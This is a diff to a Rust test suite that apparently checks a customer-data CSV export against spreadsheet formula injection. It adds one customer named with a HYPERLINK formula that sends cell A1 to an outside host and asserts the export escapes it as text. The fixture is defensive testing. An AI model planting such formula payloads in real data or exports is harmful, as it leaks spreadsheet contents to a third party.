@@ -213,10 +213,16 @@ async fn two_guides(t: &TestApp) -> (String, String, Vec<i64>, Vec<i64>) {
     let mut theirs = Vec::new();
     for i in 0..6 {
         let city = if i % 2 == 0 { "上海" } else { "北京" };
+        // Customer 1 named themselves a spreadsheet formula (a WeCom nickname can be anything).
+        let name = if i == 1 {
+            r#"=HYPERLINK("http://x.cn/?"&A1,"点我")"#.to_owned()
+        } else {
+            format!("客户{i}")
+        };
         let v = ingest(
             t,
             json!({"identities": [{"kind": "phone", "value": format!("1390000{:04}", i)}],
-                                 "name": format!("客户{i}"), "city": city}),
+                                 "name": name, "city": city}),
         )
         .await;
         let id = v["customer"]["id"].as_i64().unwrap();
@@ -290,6 +296,14 @@ async fn segments_count_list_export_within_scope(e: Engine) {
     let csv = r.text().await.unwrap();
     assert_eq!(csv.lines().count(), 5, "{csv}");
     assert!(csv.contains("****"));
+    // A name that is a formula is exported as text (a leading apostrophe), never as a formula.
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let names: Vec<String> = rows.records().map(|r| r.unwrap()[1].to_owned()).collect();
+    assert!(
+        names.contains(&r#"'=HYPERLINK("http://x.cn/?"&A1,"点我")"#.to_owned()),
+        "{names:?}"
+    );
+    assert!(names.iter().all(|n| !n.starts_with('=')), "{names:?}");
     assert!(
         t.audit_actions()
             .await
